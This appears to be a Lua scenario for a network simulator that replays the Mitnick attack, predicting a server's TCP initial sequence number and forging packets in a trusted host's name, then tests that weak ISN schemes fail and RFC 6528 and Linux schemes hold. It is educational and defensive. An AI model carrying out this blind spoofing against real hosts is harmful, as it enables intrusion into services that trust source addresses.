-- Mitnick's trick: an attacker who sees nothing opens a connection in a trusted
-- host's name. The SYN-ACK goes to the trusted host, which is kept silent; the
-- attacker must guess the number that it carried. With an ISN that grows by
-- 64,000 a connection (4.2BSD) one connection of its own tells the next.

scenario {
    title = "An off-path attacker guesses the ISN",
    about = "Why initial sequence numbers must not be predictable.",
    params = {
        isn = { 0, about = "the server's: 0 Linux, 1 RFC 6528, 3 fixed, 4 +64000 a connection" },
        command = "echo I was here",
    },
}

local function attack()
    local attacker = host("attacker", "10.0.1.1", { raw = true })
    local trusted = host("trusted", "10.0.2.1", { raw = true }) -- overwhelmed: answers nothing
    local server = host("server", "10.0.3.1", { sysctl = { isn = params.isn } })
    local middle = router("router")
    link(attacker, middle, { delay = "5ms" })
    link(trusted, middle, { delay = "5ms" })
    link(middle, server, { delay = "5ms" })

    local obeyed
    server:spawn(function()
        local listener = server:listen(514)
        while true do
            local conn = listener:accept()
            if conn:remote_address() == "10.0.2.1" then obeyed = conn:recv() end -- it trusts the address
        end
    end)

    -- One honest SYN shows today's number ...
    attacker:send_raw { dst = server, sport = 1000, dport = 514, flags = "syn", raw_seq = 1, mss = 1460 }
    local seen = attacker:recv_raw({ match = "syn+ack", timeout = "1s" }).raw_seq
    -- ... and the next is guessed: the same, or 64,000 more.
    local guess = (params.isn == 4 and seen + 64000 or seen) % 2 ^ 32
    local forged = { src = "10.0.2.1", dst = server, sport = 1023, dport = 514 }
    local function send(fields)
        for key, value in pairs(forged) do fields[key] = value end
        attacker:send_raw(fields)
    end
    send { flags = "syn", raw_seq = 7000, mss = 1460 }
    sleep("100ms")
    send { flags = "psh+ack", raw_seq = 7001, raw_ack = (guess + 1) % 2 ^ 32 // 1, data = params.command }
    run("1s")
    return obeyed, server
end

for _, c in ipairs { { "fixed", 3, true }, { "+64000", 4, true }, { "RFC 6528", 1, false }, { "Linux", 0, false } } do
    world(c[1], { isn = c[2] }, function()
        local obeyed, server = attack()
        if c[3] then
            expect(obeyed):equals(params.command) -- from a host that never said a word
            say("ISN %s: the first guess was right, the server ran \"%s\".", c[1], obeyed or "")
        else
            expect(obeyed):is_nil()
            expect(server:counter("OutRsts")):at_least(1) -- the wrong ACK is refused
            say("ISN %s: the guess was wrong and got RST.", c[1])
        end
    end)
end
